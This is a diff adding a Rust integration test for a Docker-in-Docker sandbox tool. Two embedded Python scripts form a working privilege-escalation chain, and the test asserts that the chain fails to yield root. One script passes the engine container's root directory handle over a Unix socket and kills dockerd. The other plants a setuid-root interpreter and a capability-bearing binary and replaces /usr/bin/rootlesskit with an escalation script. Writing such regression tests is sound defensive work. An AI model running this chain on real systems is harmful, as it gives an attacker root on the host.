@@ -1,0 +1,134 @@
+//! Root of a sandbox against the container of its Docker engine, which has a wider seccomp profile. A container of
+//! the engine inside gives root of the sandbox what is open there, through a socket in the workspace.
+
+use crate::support::{Dp, Ran, docker};
+use std::time::Duration;
+
+/// Starting an engine on a busy machine.
+const SLOW: Duration = Duration::from_secs(120);
+
+/// Gives the root directory of the engine's container to whoever listens in the workspace, and ends the engine
+/// when it is told to: the engine's process 1 starts another.
+const GIVE: &str = r"
+import array, os, socket, sys
+way = socket.socket(socket.AF_UNIX)
+way.connect(sys.argv[1] + '/x.sock')
+top = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
+way.sendmsg([b'/'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [top]))])
+way.recv(1)
+for number in filter(str.isdigit, os.listdir('/proc')):
+    try: name = open(f'/proc/{number}/cmdline', 'rb').read().split(b'\0')[0]
+    except OSError: continue
+    if name.endswith(b'dockerd'): os.kill(int(number), 9)
+";
+
+/// Takes it as root of the sandbox. What the engine's user executes first becomes a script whose interpreter belongs
+/// to root and has the set-user bit; that starts a program whose file capabilities make anybody of it.
+const TAKE: &str = r"
+import array, os, socket, struct, subprocess, sys, time
+here = os.getcwd()
+os.mkdir('out'); os.chmod('out', 0o777); os.chmod(here, 0o755)
+way = socket.socket(socket.AF_UNIX)
+way.bind('x.sock'); os.chmod('x.sock', 0o777); way.listen()
+run = ['docker', 'run', '--rm', '--privileged', '--pid=host', '-v', '/:/x', 'bb', 'chroot', '/x', 'python3', here + '/give.py', here]
+subprocess.Popen(run)
+visitor, _ = way.accept()
+_, rights, _, _ = visitor.recvmsg(1, socket.CMSG_SPACE(4))
+numbers = array.array('i'); numbers.frombytes(rights[0][2])
+root = f'/proc/self/fd/{numbers[0]}'
+python = os.path.realpath(sys.executable)
+def put(name, content, mode):
+    with open(root + name, 'wb') as file: file.write(content)
+    os.chown(root + name, 0, 0); os.chmod(root + name, mode)
+program = open(python, 'rb').read()
+place = os.path.dirname(python)
+put(place + '/rooted', program, 0o6755)
+put(place + '/capable', program, 0o755)
+users = struct.pack('<5I', 0x02000001, 1 << 6 | 1 << 7, 0, 0, 0)
+os.setxattr(f'{root}{place}/capable', 'security.capability', users)
+script = f'''#!{place}/rooted -I
+import os, subprocess, sys
+way = sys.argv[1] if sys.argv[1:] and not sys.argv[1].startswith('-') else 'bit'
+for become in (lambda: os.setresgid(0, 0, 0), lambda: os.setresuid(0, 0, 0)):
+    try: become()
+    except OSError: pass
+with open('{here}/out/.' + way, 'w') as file: file.write(open('/proc/self/status').read() + open('/proc/self/uid_map').read())
+os.rename('{here}/out/.' + way, '{here}/out/' + way)
+if way == 'bit': subprocess.run(['{place}/capable', '-I', __file__, 'capability'])
+'''
+os.rename(root + '/usr/bin/rootlesskit', root + '/usr/bin/rootlesskit.old')
+put('/usr/bin/rootlesskit', script.encode(), 0o755)
+visitor.send(b'!')
+deadline = time.monotonic() + 60
+for way in ('bit', 'capability'):
+    while not os.path.exists('out/' + way):
+        assert time.monotonic() < deadline, os.listdir('out')
+        time.sleep(0.05)
+    print('RAN', way, os.stat('out/' + way).st_uid, open('out/' + way).read().replace('\n', ' '))
+";
+
+fn person(uid: Option<u32>) -> Dp {
+    let dp = Dp::on_engine();
+    let id = docker(&["create", "--label", dp.label(), "dp-test/busybox"]);
+    docker(&["cp", &format!("{id}:/bin/busybox"), &dp.path("busybox")]);
+    let dp = dp.file(
+        "Dockerfile",
+        "FROM scratch\nCOPY busybox /bin/busybox\nRUN [\"/bin/busybox\", \"--install\", \"-s\", \"/bin\"]\n",
+    );
+    match uid {
+        Some(uid) => dp.unprivileged(uid, &[docker_group()]),
+        None => dp,
+    }
+}
+
+fn docker_group() -> u32 {
+    let socket = std::fs::metadata(crate::support::engine_socket()).expect("the engine's socket");
+    std::os::unix::fs::MetadataExt::gid(&socket)
+}
+
+/// The image of the engines: it has Python, and every engine that ran one has it.
+fn python() -> String {
+    let dp = person(None);
+    let words = [
+        "run",
+        "--yes",
+        "-t",
+        "dp-test/debian",
+        "--dind",
+        "shell",
+        "-c",
+    ];
+    dp.spawn([&words[..], &["docker version"]].concat())
+        .wait_for(SLOW)
+        .ok();
+    let format = "{{.Repository}}:{{.Tag}}";
+    let found = docker(&["images", "--format", format, "dp-engine"]);
+    found.lines().next().expect("it was made").to_string()
+}
+
+fn as_root(dp: &Dp, image: &str, script: &str) -> Ran {
+    let words = ["run", "--yes", "-t", image, "--dind", "--user", "root"];
+    dp.spawn([&words[..], &["shell", "-c", script]].concat())
+        .wait_for(SLOW)
+}
+
+#[test]
+fn what_root_of_a_sandbox_leaves_in_the_engines_container_makes_nobody_root_there() {
+    let python = python();
+    for uid in [None, Some(1000)] {
+        let dp = person(uid).file("give.py", GIVE).file("take.py", TAKE);
+        let script = "docker build -q -t bb . && exec python3 take.py";
+        let ran = as_root(&dp, &python, script);
+        for way in ["bit", "capability"] {
+            let said = ran.out();
+            let found = said
+                .lines()
+                .find_map(|line| line.strip_prefix(&format!("RAN {way} ")))
+                .unwrap_or_else(|| panic!("{way}: {ran}"));
+            let owner = found.split(' ').next().expect("an owner");
+            assert_ne!(owner, "0", "{way}: {ran}");
+            let becomes = format!("Uid:\t{owner}\t{owner}\t{owner}\t{owner} ");
+            assert!(found.contains(&becomes), "{way}: {ran}");
+        }
+    }
+}
